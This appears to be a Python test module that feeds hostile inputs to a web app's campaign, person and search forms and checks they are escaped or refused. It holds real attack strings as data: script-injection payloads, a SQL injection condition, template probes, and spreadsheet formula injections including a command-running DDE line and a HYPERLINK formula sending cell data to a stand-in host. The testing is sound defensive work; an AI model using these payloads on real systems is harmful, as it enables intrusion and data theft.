"""Rows 67–77: texts that other systems ran, cut, or took for something else."""

import unicodedata
from typing import Any

from tests.hostile.rows import Asked, Case, Refused, Taken, Waits
from tests.units.world import World
from units.models import Person
from units.services.persons import create_person

CAMPAIGN = "campaigns:campaign_create"
HOUSEHOLD = "units:household_create"
PERSON = "units:person_create"
ROUND = "awards:round_create"
NAME = "Nguyễn Văn Hậu"
LONG = "ế" * 32_768
MILLION = "a" * 1_000_000
EMPTY = "Chưa nhập mục này."
TOO_LONG = "kí tự"


def titled(row: int, what: str, text: str, *hides: str) -> Taken:
    """A campaign of that title: the page that follows shows it letter by letter."""
    return Taken(row, what, CAMPAIGN, {"title": text}, shows=(" ".join(text.split()),), hides=hides)


def found(row: int, what: str, words: str, *, shows: str = "", hides: str = "") -> Asked:
    """A search over the units, of which the words stand in none."""
    return Asked(
        row, what, 200, page="units:unit_list", query=f"?q={words}", shows=(shows,) if shows else (), hides=(hides,)
    )


def enter(name: str) -> Any:
    """Somebody of that name is on record already."""

    def before(world: World, record: Any) -> None:
        create_person(organiser=world.unit("north.a.hamlet"), name=name, actor=None)

    return before


def stored_as(name: str) -> Any:
    def check(world: World, record: Any) -> None:
        assert Person.objects.latest("pk").name == name

    return check


ROWS: tuple[Case | Waits, ...] = (
    titled(67, "script", "<script>alert(1)</script>", "<script>alert(1)"),
    titled(67, "picture that runs", '"><img src=x onerror=alert(1)>', "<img src=x"),
    titled(67, "link that runs", "javascript:alert(1)", 'href="javascript:'),
    titled(68, "template", "{{7*7}} {% debug %} ${7*7}", " 49 "),
    found(69, "condition", "%27%20OR%201%3D1--", hides="Ấp Hòa Long</a>"),
    found(69, "percent", "%25", hides="Ấp Hòa Long</a>"),
    found(69, "underline", "_", hides="Ấp Hòa Long</a>"),
    titled(70, "command", "=cmd|' /C calc'!A0"),
    *(titled(70, f"begins with {sign}", f"{sign}1+1") for sign in "+-@＝"),
    Taken(70, "tab and line end", CAMPAIGN, {"title": "\t\r=1+1"}, shows=("=1+1",)),
    titled(71, "link of a sheet", '=HYPERLINK("http://x?"&A1)', 'href="http://x'),
    Refused(72, "32,768 characters in a line", CAMPAIGN, "title", TOO_LONG, {"title": LONG}),
    Refused(72, "a million characters in a line", CAMPAIGN, "title", TOO_LONG, {"title": MILLION}),
    Refused(72, "32,768 characters in a text", ROUND, "note", TOO_LONG, {"note": LONG}),
    Refused(72, "a million characters in a text", "campaigns:focus_area_create", "body", TOO_LONG, {"body": MILLION}),
    Taken(
        73, "control characters", PERSON, {"name": "Nguyễn\x00 Văn\x0bHậu\ufffe"}, shows=(NAME,), check=stored_as(NAME)
    ),
    Taken(73, "half a pair", PERSON, {"name": "Nguyễn Văn Hậu \ud800"}, shows=(NAME,)),
    Refused(74, "ten thousand marks", HOUSEHOLD, "name", TOO_LONG, {"name": "a" + "\u0300" * 10_000}),
    Taken(74, "a heap of marks", HOUSEHOLD, {"name": "Hộ ông H" + "\u030d\u0489" * 20}, shows=("Hộ ông H",)),
    Refused(
        75,
        "name with no-width characters",
        PERSON,
        "another",
        NAME,
        {"name": "Nguyễn\u200b Văn H\u200dậu"},
        before=enter(NAME),
    ),
    Refused(
        75,
        "name with letters of another script",
        PERSON,
        "another",
        NAME,
        {"name": "Nguyễn Văn H\u0430\u0323\u0302u"},
        before=enter(NAME),
        fault="look-alike letters of another script make another name",
    ),
    Refused(
        76,
        "decomposed double",
        PERSON,
        "another",
        NAME,
        {"name": unicodedata.normalize("NFD", NAME)},
        before=enter(NAME),
        unkept=frozenset({"name"}),
    ),
    Refused(
        76, "composed double", PERSON, "another", NAME, {"name": NAME}, before=enter(unicodedata.normalize("NFD", NAME))
    ),
    Refused(77, "blanks", HOUSEHOLD, "name", EMPTY, {"name": "   "}),
    Refused(77, "no-break blanks", HOUSEHOLD, "name", EMPTY, {"name": "\u00a0\u00a0"}),
    Refused(77, "blanks in a text", "campaigns:campaign_cancel", "reason", EMPTY, {"reason": " \u00a0\n "}),
    Refused(77, "no-width characters alone", HOUSEHOLD, "name", EMPTY, {"name": "\u200b\u200d"}),
)
